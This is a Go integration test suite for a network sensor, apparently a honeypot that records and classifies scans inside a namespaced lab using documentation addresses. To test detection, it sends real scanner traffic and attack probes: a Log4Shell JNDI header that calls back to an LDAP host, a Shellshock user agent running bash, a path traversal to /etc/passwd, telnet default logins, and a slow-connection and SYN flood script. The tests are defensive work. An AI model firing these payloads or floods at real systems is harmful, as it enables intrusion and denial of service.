package netlab_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vantagehq/vantage/internal/demo"
	"github.com/vantagehq/vantage/internal/lab"
	"github.com/vantagehq/vantage/internal/testbin"
	"github.com/vantagehq/vantage/record"
)

const (
	sensorNS    = "nl-sensor"
	sensorIF    = "sensor0"
	sensorRange = "198.51.100.128/25"
)

// event is one JSON line of vantage sensor -o.
type event struct {
	Time       time.Time  `json:"time"`
	Src        netip.Addr `json:"src"`
	Dst        netip.Addr `json:"dst"`
	DstPort    uint16     `json:"dst_port"`
	Transport  string     `json:"transport"`
	ICMPType   uint8      `json:"icmp_type"`
	TCPFlags   uint8      `json:"tcp_flags"`
	IPID       uint16     `json:"ip_id"`
	TCPWindow  uint16     `json:"tcp_window"`
	TCPOptions string     `json:"tcp_options"`
	Handshake  bool       `json:"handshake"`
	Payload    []byte     `json:"payload"`
	HTTPPath   string     `json:"http_path"`
	UserAgent  string     `json:"user_agent"`
	JA3        string     `json:"ja3"`
	HASSH      string     `json:"hassh"`
	Username   string     `json:"username"`
	Tags       []string   `json:"tags"`
	Actor      string     `json:"actor"`
	Class      string     `json:"classification"`
}

type sensorRun struct {
	cmd    *exec.Cmd
	out    string
	log    *os.File
	dir    string
	done   bool
	killed bool
}

// startSensor runs vantage sensor in the sensor namespace, writing events
// to a file; stop ends it with SIGINT and returns the events.
func startSensor(t *testing.T, args ...string) *sensorRun {
	t.Helper()
	dir, err := os.MkdirTemp("", "vantage-sensor-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	r := &sensorRun{out: filepath.Join(dir, "events.jsonl"), dir: dir}
	r.log, _ = os.Create(filepath.Join(dir, "sensor.log"))
	full := append([]string{"netns", "exec", sensorNS, binary, "sensor", "-i", sensorIF, "--addresses", sensorRange,
		"-o", r.out, "--status-interval", "1h", "--name", "lab-sensor"}, args...)
	r.cmd = exec.Command("ip", full...)
	r.cmd.Stdout, r.cmd.Stderr = r.log, r.log
	if err := r.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.stop(t) })
	// ready once the redirect is loaded
	deadline := time.Now().Add(10 * time.Second)
	for {
		out, _ := exec.Command("ip", "netns", "exec", sensorNS, "nft", "list", "tables").Output()
		if strings.Contains(string(out), "vantage_sensor_") {
			break
		}
		if time.Now().After(deadline) {
			log, _ := os.ReadFile(filepath.Join(dir, "sensor.log"))
			t.Fatalf("the sensor never loaded its redirect:\n%s", log)
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(300 * time.Millisecond) // the rings and the listener
	return r
}

func (r *sensorRun) stop(t *testing.T) []event {
	t.Helper()
	if !r.done {
		r.done = true
		r.cmd.Process.Signal(syscall.SIGINT)
		waited := make(chan error, 1)
		go func() { waited <- r.cmd.Wait() }()
		select {
		case <-waited:
		case <-time.After(20 * time.Second):
			r.cmd.Process.Kill()
			<-waited
			t.Errorf("the sensor did not stop on SIGINT")
		}
		r.log.Close()
	}
	f, err := os.Open(r.out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var evs []event
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var e event
		if err := json.Unmarshal(sc.Bytes(), &e); err != nil {
			if r.killed {
				break // the last line of a sensor killed mid-write
			}
			t.Fatalf("bad event line %q: %v", sc.Text(), err)
		}
		evs = append(evs, e)
	}
	return evs
}

func (r *sensorRun) logText() string {
	b, _ := os.ReadFile(filepath.Join(r.dir, "sensor.log"))
	return string(b)
}

// synCounter counts, in nl-net, the SYNs forwarded to the sensor range: the
// truth the sensor's capture is held to. The table is ours and is deleted.
func synCounter(t *testing.T) func() uint64 {
	t.Helper()
	const table = "vantage_sensortest"
	prog := fmt.Sprintf(`table inet %s {
  counter syns { }
  chain count_syn {
    type filter hook forward priority raw; policy accept;
    ip daddr %s tcp flags & (syn | ack) == syn counter name syns
  }
}
`, table, sensorRange)
	cmd := exec.Command("ip", "netns", "exec", lab.NSNet, "nft", "-f", "-")
	cmd.Stdin = strings.NewReader(prog)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("nft: %v\n%s", err, out)
	}
	t.Cleanup(func() { exec.Command("ip", "netns", "exec", lab.NSNet, "nft", "delete", "table", "inet", table).Run() })
	return func() uint64 {
		out, err := exec.Command("ip", "netns", "exec", lab.NSNet, "nft", "list", "counter", "inet", table, "syns").Output()
		if err != nil {
			t.Fatalf("read counter: %v", err)
		}
		f := strings.Fields(string(out))
		for i, w := range f {
			if w == "packets" && i+1 < len(f) {
				n, _ := strconv.ParseUint(f[i+1], 10, 64)
				return n
			}
		}
		t.Fatalf("no packets in %s", out)
		return 0
	}
}

// TestSensorCaptureWithoutLoss floods the dark range with zmap (128
// addresses x 1000 probes, unthrottled) and holds the sensor to the SYNs
// that nl-net forwarded to it.
func TestSensorCaptureWithoutLoss(t *testing.T) {
	needLab(t)
	syns := synCounter(t)
	s := startSensor(t)
	blocklist := filepath.Join(s.dir, "empty.conf")
	os.WriteFile(blocklist, nil, 0o644)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	run := func(name string, args ...string) {
		t0 := time.Now()
		out, err := lab.Command(ctx, lab.NSScan, name, args...).CombinedOutput()
		if err != nil {
			t.Fatalf("%s: %v\n%s", name, err, out)
		}
		t.Logf("%s took %s", name, time.Since(t0).Round(time.Millisecond))
	}
	// zmap 2.1.1 scans one port: many probes per target make the flood
	run("zmap", "-q", "-p", "80", "-r", "0", "-P", "1000", "-i", lab.ScanIF, "-S", lab.ScanIP, "-G", lab.GatewayMC,
		"-b", blocklist, "-c", "1", "-o", "/dev/null", sensorRange)
	time.Sleep(time.Second)
	want := syns()
	evs := s.stop(t)
	var got uint64
	var times []time.Time
	for _, e := range evs {
		if e.Transport == "tcp" && e.TCPFlags&0x12 == 0x02 && e.Src == netip.MustParseAddr(lab.ScanIP) {
			got++
			times = append(times, e.Time)
		}
	}
	t.Log(strings.TrimSpace(s.logText()))
	t.Logf("SYNs forwarded to the sensor: %d, recorded: %d (%.3f%%), highest rate held: %.0f SYN/s over 100 ms",
		want, got, 100*float64(got)/float64(max(want, 1)), peakRate(times, 100*time.Millisecond))
	if want < 100000 {
		t.Errorf("only %d SYNs reached the sensor: the flood proves little", want)
	}
	if got != want {
		t.Errorf("recorded %d SYNs of %d that arrived", got, want)
	}
}

// peakRate is the most events in any window, per second.
func peakRate(ts []time.Time, window time.Duration) float64 {
	sort.Slice(ts, func(i, j int) bool { return ts[i].Before(ts[j]) })
	best, j := 0, 0
	for i := range ts {
		for ts[i].Sub(ts[j]) > window {
			j++
		}
		best = max(best, i-j+1)
	}
	return float64(best) / window.Seconds()
}

// ipv6Lab joins the scanner and the sensor namespaces with a veth pair of
// our own carrying IPv6 (nl-net's rules drop IPv6, neighbour discovery
// included, and are not ours to change), routes a dark /64 to the sensor,
// and deletes the pair at the end. Documentation prefixes only.
func ipv6Lab(t *testing.T) (iface string, scanner, dark netip.Prefix) {
	t.Helper()
	run := func(args ...string) {
		t.Helper()
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			t.Fatalf("ip %v: %v\n%s", args, err, out)
		}
	}
	exec.Command("ip", "-n", lab.NSScan, "link", "del", "v6scan").Run() // left by a killed run
	run("-n", lab.NSScan, "link", "add", "v6scan", "type", "veth", "peer", "name", "v6sensor", "netns", sensorNS)
	t.Cleanup(func() { exec.Command("ip", "-n", lab.NSScan, "link", "del", "v6scan").Run() })
	run("-n", lab.NSScan, "addr", "add", "2001:db8:b::10/64", "dev", "v6scan", "nodad")
	run("-n", sensorNS, "addr", "add", "2001:db8:b::2/64", "dev", "v6sensor", "nodad")
	run("-n", lab.NSScan, "link", "set", "v6scan", "up")
	run("-n", sensorNS, "link", "set", "v6sensor", "up")
	run("-n", lab.NSScan, "-6", "route", "add", "2001:db8:c::/64", "via", "2001:db8:b::2")
	return "v6sensor", netip.MustParsePrefix("2001:db8:b::10/128"), netip.MustParsePrefix("2001:db8:c::/64")
}

// TestSensorIPv6 sends ping, a SYN scan and an HTTP request to a dark IPv6
// range: the sensor records all three, with the handshake for the last.
func TestSensorIPv6(t *testing.T) {
	needLab(t)
	iface, scanner, dark := ipv6Lab(t)
	s := startSensor(t, "--addresses", dark.String(), "-i", iface)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	target := "2001:db8:c::99"
	for _, c := range [][]string{
		{"ping", "-6", "-c", "2", "-W", "2", target},
		{"nmap", "-6", "-sS", "-Pn", "-n", "-p", "22,443", target},
		{"curl", "-s", "-m", "5", "-o", "/dev/null", "http://[" + target + "]:8080/v6-probe"},
	} {
		// curl may see an empty reply from the default responder; the
		// event is what counts
		out, err := lab.Command(ctx, lab.NSScan, c[0], c[1:]...).CombinedOutput()
		if err != nil && c[0] == "nmap" { // dark addresses answer no ping; curl may get an empty reply
			t.Fatalf("%v: %v\n%s", c, err, out)
		}
	}
	time.Sleep(500 * time.Millisecond)
	evs := s.stop(t)
	var icmp, syn, conn int
	for _, e := range evs {
		if e.Src != scanner.Addr() || !dark.Contains(e.Dst) {
			continue
		}
		switch {
		case e.Transport == "icmp" && e.ICMPType == 128:
			icmp++
		case e.Transport == "tcp" && e.Handshake && e.DstPort == 8080 && strings.Contains(string(e.Payload), "/v6-probe"):
			conn++
		case e.Transport == "tcp" && e.TCPFlags&0x12 == 0x02 && (e.DstPort == 22 || e.DstPort == 443):
			syn++
		}
	}
	t.Logf("IPv6 events: %d echo requests, %d SYNs to 22/443, %d HTTP connections (of %d events)", icmp, syn, conn, len(evs))
	if icmp < 2 || syn < 2 || conn != 1 {
		t.Errorf("want 2 echo requests, 2 SYNs and 1 connection; sensor log:\n%s", s.logText())
	}
}

// storedEvents pages through every event the server holds for the lab
// sensor and returns how often each ID is stored.
func storedEvents(t *testing.T, url string) map[string]int {
	t.Helper()
	ids := map[string]int{}
	cursor := ""
	for page := 0; page < 1000; page++ {
		args := []string{"search", "--events", "sensor:lab-sensor", "--json", "--limit", "1000", "--server", url}
		if cursor != "" {
			args = append(args, "--cursor", cursor)
		}
		out, err := lab.Command(context.Background(), sensorNS, binary, args...).Output()
		if err != nil {
			t.Fatalf("search events: %v", err)
		}
		var r struct {
			Events []struct {
				ID string `json:"id"`
			} `json:"events"`
			Next string `json:"next"`
		}
		if err := json.Unmarshal(out, &r); err != nil {
			t.Fatalf("search events: %v: %.200s", err, out)
		}
		for _, e := range r.Events {
			ids[e.ID]++
		}
		if r.Next == "" || len(r.Events) == 0 {
			break
		}
		cursor = r.Next
	}
	return ids
}

// spooled reads the event IDs in a spool directory's batch files.
func spooled(t *testing.T, dir string) []string {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(dir, "*.batch"))
	var ids []string
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		batch, err := record.UnmarshalBatch(b)
		if err != nil {
			t.Fatalf("spool file %s: %v", f, err)
		}
		for _, e := range batch.Events {
			ids = append(ids, e.ID.String())
		}
	}
	return ids
}

// TestSensorSurvivesCrashAndOutage kills the sensor with SIGKILL in the
// middle of a scan of its range and restarts it on the same spool, then
// stops the server in the middle of another scan and starts it again:
// every event the sensors spooled, and every event the second sensor
// recorded, is stored exactly once.
func TestSensorSurvivesCrashAndOutage(t *testing.T) {
	needLab(t)
	data := t.TempDir()
	const listen = "127.0.0.1:18466"
	srv := testbin.StartServer(t, testbin.ServerOptions{Namespace: sensorNS, Data: data, Listen: listen, Args: geoArgs()})
	key := srv.Key
	spoolDir := filepath.Join(t.TempDir(), "spool")
	sensorArgs := []string{"--server", srv.URL, "--key", key, "--spool", spoolDir}
	traffic := func() *exec.Cmd {
		// bounded: 128 addresses x 40 ports at 4,000 probes/s, about 1.3 s
		cmd := lab.Command(context.Background(), lab.NSScan, binary, "scan", "-q", "-p", "1-40", "-r", "4000", "-c", "1s",
			"--allow-reserved", sensorRange, "-o", "/dev/null", sensorRange)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		return cmd
	}

	// the server stops mid-stream; while it is away the sensor is killed
	// with SIGKILL and restarted on the same spool; then the server comes
	// back at the same address and a second scan runs
	a := startSensor(t, sensorArgs...)
	scan1 := traffic()
	time.Sleep(300 * time.Millisecond)
	if err := srv.Stop(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(400 * time.Millisecond)
	a.cmd.Process.Kill()
	a.cmd.Wait()
	a.done, a.killed = true, true
	left := spooled(t, spoolDir) // what the killed sensor had taken but not delivered
	b := startSensor(t, sensorArgs...)
	if err := scan1.Wait(); err != nil {
		t.Fatalf("scan: %v", err)
	}
	time.Sleep(500 * time.Millisecond)
	waiting := len(spooled(t, spoolDir))
	srv = testbin.StartServer(t, testbin.ServerOptions{Namespace: sensorNS, Data: data, Listen: listen, Args: geoArgs()})
	scan2 := traffic()
	if err := scan2.Wait(); err != nil {
		t.Fatalf("scan: %v", err)
	}
	time.Sleep(500 * time.Millisecond)
	b.stop(t) // drains the spool into the restarted server
	if rest := spooled(t, spoolDir); len(rest) != 0 {
		t.Fatalf("%d events still spooled after a clean stop:\n%s", len(rest), b.logText())
	}

	stored := storedEvents(t, srv.URL)
	dups, missingLeft, missingB := 0, 0, 0
	for _, n := range stored {
		if n > 1 {
			dups++
		}
	}
	for _, id := range left {
		if stored[id] == 0 {
			missingLeft++
		}
	}
	bIDs := readIDs(t, b.out)
	for _, id := range bIDs {
		if stored[id] == 0 {
			missingB++
		}
	}
	t.Logf("stored %d events; the killed sensor left %d in its spool (missing from the store: %d); %d waited for the server; the restarted sensor recorded %d (missing: %d); %d stored twice",
		len(stored), len(left), missingLeft, waiting, len(bIDs), missingB, dups)
	if dups != 0 || missingLeft != 0 || missingB != 0 {
		t.Errorf("events lost or duplicated")
	}
	if len(left) == 0 || waiting == 0 {
		t.Errorf("the spool was empty at the crash (%d) or during the outage (%d): the test did not exercise it", len(left), waiting)
	}
}

// readIDs reads the event IDs of a sensor's -o file.
func readIDs(t *testing.T, name string) []string {
	t.Helper()
	f, err := os.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var ids []string
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var e struct {
			ID string `json:"id"`
		}
		if json.Unmarshal(sc.Bytes(), &e) == nil && e.ID != "" {
			ids = append(ids, e.ID)
		}
	}
	return ids
}

// toolRun is one tool sending real traffic at its own dark address, and
// the tags its events must carry.
type toolRun struct {
	name string
	dst  string
	cmd  []string // run in nl-scan
	want []string
}

func TestSensorTagsRealTools(t *testing.T) {
	needLab(t)
	for _, tool := range []string{"zmap", "masscan", "nmap", "curl", "ssh", "redis-cli", "python3", "ping"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("skipping: %s is not installed (netlab deps installs the lab's tools): %v", tool, err)
		}
	}
	s := startSensor(t, "--conn-timeout", "5s")
	blocklist := filepath.Join(s.dir, "empty.conf")
	os.WriteFile(blocklist, nil, 0o644)
	d := func(i int) string { return fmt.Sprintf("198.51.100.%d", 130+i) }
	browser := "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
	runs := []toolRun{
		{"ping", d(0), []string{"ping", "-c", "2", "-W", "1", d(0)}, []string{"ICMP_ECHO_REQUEST"}},
		{"zmap", d(1), []string{"zmap", "-q", "-p", "80", "-i", lab.ScanIF, "-S", lab.ScanIP, "-G", lab.GatewayMC, "-b", blocklist, "-c", "1", "-o", "/dev/null", d(1) + "/32"},
			[]string{"TCP_SYN", "ZMAP"}},
		{"masscan", d(2), []string{"masscan", d(2), "-p80,443", "--rate", "1000", "--adapter", lab.ScanIF, "--adapter-ip", lab.ScanIP,
			"--adapter-mac", lab.ScanMAC, "--router-mac", lab.GatewayMC, "--wait", "1", "-oL", "/dev/null"}, []string{"TCP_SYN", "MASSCAN"}},
		{"nmap -sS", d(3), []string{"nmap", "-sS", "-Pn", "-n", "-p", "22,80,3389", d(3)}, []string{"TCP_SYN", "NMAP"}},
		{"nmap -sV", d(4), []string{"nmap", "-sV", "-Pn", "-n", "-p", "80", d(4)}, []string{"TCP_SYN", "NMAP", "HTTP_SCANNER"}},
		{"curl, browser", d(5), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-A", browser, "http://" + d(5) + "/"}, []string{"TCP_SYN", "HTTP_SCANNER"}},
		{"curl, scanner UA", d(6), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-A", "Mozilla/5.0 zgrab/0.x", "http://" + d(6) + "/"}, []string{"TCP_SYN", "HTTP_SCANNER", "ZGRAB"}},
		{"ssh", d(7), []string{"ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "root@" + d(7), "true"}, []string{"TCP_SYN", "SSH_SCANNER"}},
		{"sip OPTIONS (svmap-style)", d(8), demo.Python("", "udp", d(8), 5060, `OPTIONS sip:100@`+d(8)+` SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.10:5060;branch=z9hG4bK-1\r\nMax-Forwards: 70\r\nFrom: "sipvicious"<sip:100@192.0.2.10>;tag=1\r\nTo: "sipvicious"<sip:100@192.0.2.10>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n`), []string{"UDP_PROBE", "SIP_SCANNER", "SIPVICIOUS"}},
		{"rdp X.224", d(9), demo.Python("", "tcp", d(9), 3389, `\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00`), []string{"TCP_SYN", "RDP_SCANNER"}},
		{"redis-cli", d(10), []string{"redis-cli", "-h", d(10), "-p", "6379", "INFO"}, []string{"TCP_SYN", "REDIS_SCANNER"}},
		{"telnet login", d(11), demo.Python("", "tcp", d(11), 23, `root\r\n`, `admin\r\n`), []string{"TCP_SYN", "TELNET_SCANNER", "TELNET_LOGIN_ATTEMPT"}},
		{"log4shell", d(12), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-H", "X-Api-Version: ${jndi:ldap://198.51.100.1:1389/a}", "http://" + d(12) + "/"}, []string{"TCP_SYN", "HTTP_SCANNER", "CURL", "LOG4SHELL"}},
		{"shellshock", d(13), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-A", "() { :; }; /bin/bash -c 'id'", "http://" + d(13) + "/cgi-bin/status"}, []string{"TCP_SYN", "HTTP_SCANNER", "SHELLSHOCK"}},
		{"path traversal", d(14), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "--path-as-is", "http://" + d(14) + "/../../../../etc/passwd"}, []string{"TCP_SYN", "HTTP_SCANNER", "CURL", "PATH_TRAVERSAL"}},
	}
	// masscan 1.3.2 waits for a packet before it exits: a real network is
	// never silent, the lab can be (CI once lost the whole budget to it)
	stopTrickle := lab.Trickle()
	for _, r := range runs {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second) // one tool cannot eat the others' time
		out, err := lab.Command(ctx, lab.NSScan, r.cmd[0], r.cmd[1:]...).CombinedOutput()
		cancel()
		t.Logf("%s: %v %.120s", r.name, err, strings.TrimSpace(string(out)))
	}
	stopTrickle()
	time.Sleep(2 * time.Second)
	evs := s.stop(t)
	got := map[string]map[string]bool{}
	for _, e := range evs {
		k := e.Dst.String()
		if got[k] == nil {
			got[k] = map[string]bool{}
		}
		for _, tg := range e.Tags {
			got[k][tg] = true
		}
	}
	t.Logf("%-26s %-52s %-52s %s", "tool", "expected", "observed", "precision recall")
	var tp, fp, fn int
	for _, r := range runs {
		var obs []string
		for tg := range got[r.dst] {
			obs = append(obs, tg)
		}
		sort.Strings(obs)
		want := map[string]bool{}
		for _, w := range r.want {
			want[w] = true
		}
		hit := 0
		for _, o := range obs {
			if want[o] {
				hit++
			}
		}
		tp, fp, fn = tp+hit, fp+len(obs)-hit, fn+len(r.want)-hit
		t.Logf("%-26s %-52s %-52s %3.0f%% %3.0f%%", r.name, strings.Join(r.want, ","), strings.Join(obs, ","),
			100*float64(hit)/float64(max(len(obs), 1)), 100*float64(hit)/float64(len(r.want)))
	}
	t.Logf("all tools: precision %.1f%%, recall %.1f%%", 100*float64(tp)/float64(tp+fp), 100*float64(tp)/float64(tp+fn))
	if fp != 0 || fn != 0 {
		t.Errorf("%d tags wrong, %d missing", fp, fn)
	}
}

// TestSensorHostileClients holds 10,000 slow connections open against the
// sensor, pushes a 64 MB payload into one, and floods it with SYNs at the
// same time: recording goes on (every SYN that arrived is recorded), the
// process stays within its budgets, and a well-behaved client is served
// again once the slow ones are gone.
func TestSensorHostileClients(t *testing.T) {
	needLab(t)
	syns := synCounter(t)
	s := startSensor(t, "--per-source", "20000", "--max-conns", "20000", "--conn-timeout", "30s")
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	slow := lab.Command(ctx, lab.NSScan, "python3", "-c", `
import resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
socks = []
for i in range(10000):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(("198.51.100.%d" % (128 + i % 120), 1000 + i % 2000))
    except BlockingIOError: pass
    socks.append(s)
big = socket.create_connection(("198.51.100.250", 80), timeout=10)
chunk = b"A" * 65536
try:
    for _ in range(1024): big.sendall(chunk)   # 64 MB, or until the sensor hangs up
except OSError: pass
for r in range(5):                            # a byte a second on every slow one
    for s in socks:
        try: s.send(b"x")
        except OSError: pass
    time.sleep(1)
print("held", len(socks))
`)
	var slowOut strings.Builder
	slow.Stdout, slow.Stderr = &slowOut, &slowOut
	if err := slow.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(2 * time.Second)
	blocklist := filepath.Join(s.dir, "empty.conf")
	os.WriteFile(blocklist, nil, 0o644)
	if out, err := lab.Command(ctx, lab.NSScan, "zmap", "-q", "-p", "443", "-r", "0", "-P", "200", "-i", lab.ScanIF, "-S", lab.ScanIP,
		"-G", lab.GatewayMC, "-b", blocklist, "-c", "1", "-o", "/dev/null", sensorRange).CombinedOutput(); err != nil {
		t.Fatalf("zmap: %v\n%s", err, out)
	}
	rss := sensorRSS(t)
	if err := slow.Wait(); err != nil {
		t.Fatalf("slow clients: %v\n%s", err, slowOut.String())
	}
	// the slow ones are gone: a normal client is served
	lab.Command(ctx, lab.NSScan, "curl", "-s", "-m", "5", "-o", "/dev/null", "http://198.51.100.251/after-the-storm").Run()
	time.Sleep(time.Second)
	want := syns()
	evs := s.stop(t)
	var got uint64
	served, bigPayload := false, 0
	for _, e := range evs {
		if e.Transport == "tcp" && e.TCPFlags&0x12 == 0x02 && e.Src == netip.MustParseAddr(lab.ScanIP) {
			got++
		}
		if e.Handshake && strings.Contains(string(e.Payload), "/after-the-storm") {
			served = true
		}
		if e.Handshake && e.DstPort == 80 && e.Dst == netip.MustParseAddr("198.51.100.250") {
			bigPayload = len(e.Payload)
		}
	}
	t.Logf("%s; SYNs arrived %d, recorded %d; sensor RSS during the storm %d MiB; the 64 MB sender's event kept %d bytes; served afterwards: %v",
		strings.TrimSpace(slowOut.String()), want, got, rss>>20, bigPayload, served)
	t.Log(strings.TrimSpace(s.logText()))
	if got != want {
		t.Errorf("recorded %d of %d SYNs during the storm", got, want)
	}
	if !served {
		t.Errorf("a normal connection after the storm was not served")
	}
	if bigPayload > 4096 {
		t.Errorf("an event kept %d bytes of payload", bigPayload)
	}
}

// sensorRSS is the resident memory of the running vantage sensor.
func sensorRSS(t *testing.T) int64 {
	t.Helper()
	return sensorMem(t)["VmRSS:"]
}

// TestSensorFootprint: the sensor's peak memory while it records 1,000
// events per second for ten seconds (the goal is 64 MB).
func TestSensorFootprint(t *testing.T) {
	needLab(t)
	s := startSensor(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	// 128 addresses x 80 ports at 1,000 probes/s: 10.2 s
	if out, err := lab.Command(ctx, lab.NSScan, binary, "scan", "-q", "-p", "1-80", "-r", "1000", "-c", "1s",
		"--allow-reserved", sensorRange, "-o", "/dev/null", sensorRange).CombinedOutput(); err != nil {
		t.Fatalf("scan: %v\n%s", err, out)
	}
	mem := sensorMem(t)
	evs := s.stop(t)
	t.Logf("%d events at about 1,000/s: peak RSS (VmHWM) %.1f MiB; now resident: %.1f MiB file-backed (the binary's pages, DuckDB linked in, and the capture rings, which the kernel keeps resident: 9 MiB), %.1f MiB anonymous",
		len(evs), mib(mem["VmHWM:"]), mib(mem["RssFile:"]), mib(mem["RssAnon:"]))
	if len(evs) < 10000 {
		t.Errorf("only %d events recorded", len(evs))
	}
	// the goal is 64 MB of RSS; a regression past it fails
	if mem["VmHWM:"] > 64e6 {
		t.Errorf("peak RSS %.1f MiB is over the 64 MB goal", mib(mem["VmHWM:"]))
	}
}

func mib(b int64) float64 { return float64(b) / (1 << 20) }

// sensorMem reads the memory lines of the running sensor's /proc status.
func sensorMem(t *testing.T) map[string]int64 {
	t.Helper()
	out, err := exec.Command("pgrep", "-f", "vantage.* sensor -i").Output()
	if err != nil {
		t.Fatalf("sensor process not found: %v", err)
	}
	mem := map[string]int64{}
	for _, pid := range strings.Fields(string(out)) {
		comm, _ := os.ReadFile("/proc/" + pid + "/comm")
		if strings.TrimSpace(string(comm)) != "vantage" {
			continue
		}
		b, _ := os.ReadFile("/proc/" + pid + "/status")
		for _, line := range strings.Split(string(b), "\n") {
			if f := strings.Fields(line); len(f) >= 2 && strings.HasPrefix(f[0], "Vm") || len(f) >= 2 && strings.HasPrefix(f[0], "Rss") {
				kb, _ := strconv.ParseInt(f[1], 10, 64)
				mem[f[0]] = kb << 10
			}
		}
	}
	return mem
}

// TestSensorVerdictThroughServer: a Log4Shell attempt at the sensor makes
// its source malicious in the server's sensor view, with the rule's CVE and
// the event behind it as evidence.
func TestSensorVerdictThroughServer(t *testing.T) {
	needLab(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("skipping: curl is not installed")
	}
	srv := testbin.StartServer(t, testbin.ServerOptions{Namespace: sensorNS, Args: geoArgs()})
	s := startSensor(t, "--server", srv.URL, "--key", srv.Key, "--spool", filepath.Join(t.TempDir(), "spool"))
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	lab.Command(ctx, lab.NSScan, "curl", "-s", "-m", "5", "-o", "/dev/null", "-H", "User-Agent: ${jndi:ldap://198.51.100.1:1389/x}",
		"http://198.51.100.171/").Run()
	var view struct {
		Classification string   `json:"classification"`
		Evidence       []string `json:"evidence"`
		Tags           []string `json:"tags"`
	}
	err := testbin.Wait(ctx, 30*time.Second, func() (bool, error) {
		out, err := lab.Command(ctx, sensorNS, "curl", "-s", "-H", "Authorization: Bearer "+srv.Key,
			srv.URL+"/api/v1/sensors/ip/"+lab.ScanIP).Output()
		if err != nil {
			return false, nil
		}
		if json.Unmarshal(out, &view) != nil {
			return false, nil
		}
		return view.Classification == "malicious", nil
	})
	s.stop(t)
	t.Logf("verdict %q, tags %v, evidence %q", view.Classification, view.Tags, view.Evidence)
	if err != nil {
		t.Fatalf("the source never became malicious: %v", err)
	}
	if len(view.Evidence) == 0 || !strings.Contains(view.Evidence[0], "LOG4SHELL (CVE-2021-44228") {
		t.Errorf("evidence %q does not name the Log4Shell rule", view.Evidence)
	}
	// and the CLI says it to a person
	out, err := lab.Command(ctx, sensorNS, binary, "lookup", lab.ScanIP, "--server", srv.URL, "--key", srv.Key).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "evidence:") || !strings.Contains(string(out), "LOG4SHELL") {
		t.Errorf("vantage lookup: %v\n%s", err, out)
	}
	t.Logf("vantage lookup %s:\n%s", lab.ScanIP, out)
}

// TestSensorActorRanges: a published list of a benign organisation's
// addresses, imported at start, makes the scanner's events benign and
// names the actor, even for an exploit-shaped request (benign overrides).
func TestSensorActorRanges(t *testing.T) {
	needLab(t)
	list := filepath.Join(t.TempDir(), "shodan.txt")
	os.WriteFile(list, []byte("# as published\n"+lab.ScanIP+"\n198.51.100.0/30\n"), 0o644)
	s := startSensor(t, "--actor-ranges", "SHODAN="+list)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	lab.Command(ctx, lab.NSScan, "curl", "-s", "-m", "5", "-o", "/dev/null", "-A", "${jndi:ldap://198.51.100.1/a}", "http://198.51.100.172/").Run()
	time.Sleep(time.Second)
	var n int
	for _, e := range s.stop(t) {
		if e.Dst != netip.MustParseAddr("198.51.100.172") {
			continue
		}
		n++
		if e.Actor != "SHODAN" || e.Class != "benign" || !slices.Contains(e.Tags, "SHODAN") {
			t.Errorf("event to port %d: actor %q, classification %q, tags %v", e.DstPort, e.Actor, e.Class, e.Tags)
		}
		if e.Handshake && !slices.Contains(e.Tags, "LOG4SHELL") {
			t.Errorf("the request's own tags are lost: %v", e.Tags)
		}
	}
	if n == 0 {
		t.Fatal("no event recorded")
	}
}
